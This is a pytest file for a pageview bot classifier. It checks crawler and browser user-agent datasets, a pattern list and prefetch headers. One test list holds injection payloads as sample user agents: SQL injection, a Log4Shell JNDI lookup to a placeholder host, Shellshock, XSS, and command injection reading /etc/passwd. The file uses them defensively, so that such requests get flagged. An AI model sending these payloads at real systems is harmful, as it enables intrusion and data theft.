"""Bots: matched by a list, with few people among them; and browsers that fetch pages in advance."""

import json
import re

import pytest

from tests.pageviews.classify.conftest import CHROME, FIREFOX
from tests.pageviews.classify.fixtures import browsers, crawlers, detected
from utilities.pageviews.classify.bots import BOT_PATTERNS_FILE, is_bot, is_prefetch, to_python_pattern


def share(agents: list[str]) -> float:
    return sum(map(is_bot, agents)) / len(agents)


def test_list_is_complete():
    patterns = json.loads(BOT_PATTERNS_FILE.read_text(encoding="utf-8"))
    assert len(patterns) == 209
    assert all(re.compile(to_python_pattern(each)) for each in patterns)


def test_2123_crawlers_of_crawler_user_agents():
    agents = list(crawlers())
    assert len(agents) >= 2000
    assert share(agents) >= 0.995


def test_1348_bots_of_device_detector():
    agents = [row["user_agent"] for row in detected("bots")]
    assert len(agents) >= 1300
    assert share(agents) >= 0.99


@pytest.mark.slow
@pytest.mark.parametrize(
    ("names", "least", "most"),
    [
        (("desktop", "desktop-1"), 150, 0.02),
        (("smartphone", "smartphone-1", "smartphone-20", "smartphone-43"), 1000, 0.004),
        (("phablet", "phablet-1"), 400, 0.002),
        (("tablet", "tablet-5", "tablet-12"), 800, 0.004),
        (("tv", "tv-1", "tv-6"), 500, 0.006),
        (("car_browser", "smart_display"), 40, 0.0),
    ],
)
def test_people_of_device_detector_are_people(names: tuple[str, ...], least: int, most: float):
    agents = [row["user_agent"] for row in browsers(*names)]
    assert len(agents) >= least
    assert share(agents) <= most, [each for each in agents if is_bot(each)]


@pytest.mark.parametrize(
    "agent",
    [
        "",
        "  ",
        "-",
        "Mozilla/5.0",
        "curl/8.9.1",
        "python-requests/2.32.3",
        "Python/3.12 aiohttp/3.10",
        "Go-http-client/2.0",
        "axios/1.7.7",
        "node",
        "okhttp/4.12.0",
        "Java/21.0.4",
        "Wget/1.24.5",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        CHROME.replace("Chrome/", "HeadlessChrome/"),
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
        "-8235OR 5208=5208",
        "{{2959082-1}}",
        "1' OR '1'='1",
        "${jndi:ldap://a.example/x}",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36' AND SLEEP(5)--",
        "() { :;}; echo vulnerable",
        "<script>alert(1)</script>",
        f"{CHROME} AND 5208=5208",
        f"{CHROME}) OR 'a'='a",
        f"{CHROME}'||(SELECT 1 FROM x)||'",
        f"{CHROME} pg_sleep(5)",
        "`id`",
        "a;cat /etc/passwd",
        "-",
    ],
)
def test_machine_is_a_machine(agent: str):
    assert is_bot(agent)


@pytest.mark.parametrize(
    "agent",
    [
        CHROME,
        FIREFOX,
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.0 "
        "Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile "
        "Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 "
        "Safari/605.1.15",
        CHROME + " Edg/142.0.0.0",
        CHROME + " OPR/125.0.0.0",
        CHROME + " SE 2.X MetaSr 1.0",
        "Mozilla/5.0 (Linux; Android 8.0; CUBOT_X18) AppleWebKit/537.36 Chrome/75.0 Mobile Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
        "[FBAN/FBIOS;FBAV/480.0.0;FBDV/iPhone15,2;FBSV/18.6;FBLC/de_DE]",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
    ],
)
def test_person_is_a_person(agent: str):
    assert not is_bot(agent)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("sec-purpose", "prefetch"),
        ("sec-purpose", "prefetch;prerender"),
        ("purpose", "prefetch"),
        ("purpose", "preview"),
        ("x-purpose", "preview"),
        ("x-moz", "prefetch"),
        ("x-moz", "Prerender"),
        ("purpose", "prerender"),
        ("sec-purpose", "prefetch;anonymous-client-ip"),
    ],
)
def test_a_browser_that_is_ahead_says_so(name: str, value: str):
    assert is_prefetch({name: value})


def test_other_headers_say_nothing_of_it():
    assert not is_prefetch({"sec-fetch-dest": "image", "purpose": "", "x-moz": "1"})
